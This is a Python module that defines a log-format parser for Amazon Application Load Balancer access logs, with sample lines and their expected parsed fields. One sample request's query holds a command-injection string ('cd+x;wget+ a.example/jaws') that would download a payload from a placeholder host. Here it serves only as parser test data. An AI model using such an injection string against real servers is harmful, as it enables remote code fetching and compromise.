"""alb: Application Load Balancers of Amazon. They log no referrer, so the pixel's query must hold it."""

from pixelstat.formats.base import Sample
from pixelstat.formats.builtin.elb import FIELDS, use_answer_as_status
from pixelstat.formats.text import TextFormat

FORMAT = TextFormat(
    "alb",
    "$kind $time_iso8601 $elb $address_port $target $t1 $t2 $t3 $answer $target_status $received $bytes_sent"
    ' "$absolute_request" "$http_user_agent"',
    "Amazon Application Load Balancer",
    (
        Sample(
            "http 2026-09-07T06:41:29.051646Z app/lb/3011821a43ee0c5e 203.0.113.7:41542 - -1 -1 -1 301 - 233 390"
            ' "GET http://127.0.0.1:80/p.gif?cd+x;wget+ a.example/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19" "-" "-" 0'
            ' 2026-09-07T06:41:29.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri"',
            {"time": "2026-09-07T06:41:29.051646", "client": "203.0.113.7", "vhost": "127.0.0.1", "method": "GET", "path": "/p.gif",
             "query": "cd+x;wget+ a.example/jaws", "status": 301, "bytes": 390, "user_agent": "Hello, world", "referrer": None},
        ),
        Sample(
            "h2 2026-09-07T06:41:29.051646Z app/lb/3011821a43ee0c5e 2001:db8::7:41542 10.0.0.1:80 0.0 0.1 0.0 - - 34 366"
            ' "GET https://shop.example:443/ HTTP/2.0" "-" ECDHE TLSv1.2 arn "Root=1" "shop.example" "arn" 0'
            ' 2026-09-07T06:41:29.05Z "forward" "-" "-" "-" "-" "-" "-" TID_1',
            {"time": "2026-09-07T06:41:29.051646", "client": "2001:db8::7", "vhost": "shop.example", "path": "/", "query": None,
             "status": 0, "user_agent": ""},
        ),
    ),
    field_patterns={"kind": "https?|h2|grpcs?|wss?"},
    fields={**FIELDS, "kind": "kind"},
    finish=use_answer_as_status,
)  # fmt: skip
